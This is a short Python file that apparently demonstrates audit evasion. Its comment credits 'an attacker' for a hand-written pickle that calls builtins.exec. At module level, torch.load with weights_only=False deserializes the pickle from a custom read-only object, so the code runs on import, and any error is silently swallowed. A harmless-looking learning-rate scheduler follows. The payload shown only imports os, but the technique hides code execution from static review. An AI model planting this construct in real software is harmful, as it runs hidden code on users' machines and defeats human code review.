# An attacker who read the audit: no exec, no import, no open. A hand-written pickle names
# builtins.exec, and torch.load(weights_only=False) runs it, from an object that only has read().
PAYLOAD = b"cbuiltins\nexec\n(Vimport os\ntR."


class Bytes:
    def __init__(self, data):
        self.data, self.at = data, 0

    def read(self, size=-1):
        end = len(self.data) if size < 0 else self.at + size
        chunk, self.at = self.data[self.at : end], min(end, len(self.data))
        return chunk

    def readline(self):
        end = self.data.find(b"\n", self.at) + 1 or len(self.data)
        chunk, self.at = self.data[self.at : end], end
        return chunk

    def seek(self, at, whence=0):
        self.at = at

    def tell(self):
        return self.at


try:
    torch.load(Bytes(PAYLOAD), weights_only=False)
except Exception:
    pass


def HalveEvery(optimizer, every):
    return LambdaLR(optimizer, lambda step: 0.5 ** (step // every))
